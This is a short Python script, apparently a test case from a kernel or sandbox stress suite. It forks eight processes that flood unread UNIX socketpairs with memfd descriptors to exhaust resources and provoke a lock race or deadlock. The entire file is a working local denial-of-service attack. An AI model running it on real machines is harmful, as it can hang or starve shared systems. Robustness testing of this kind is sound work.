"""Sends descriptors through sockets that nobody reads: open files that no table holds."""

# attacks: lock_race
# shows: deadlock

import contextlib
import os
import signal
import socket

for _ in range(8):
    if os.fork() == 0:
        break
lines = []
with contextlib.suppress(OSError):
    while True:
        lines.append(socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
        lines[-1][0].setblocking(False)
        files = [os.memfd_create("in flight") for _ in range(64)]
        with contextlib.suppress(OSError):
            while True:
                socket.send_fds(lines[-1][0], [b"x"], files)
        for file in files:
            os.close(file)
signal.pause()
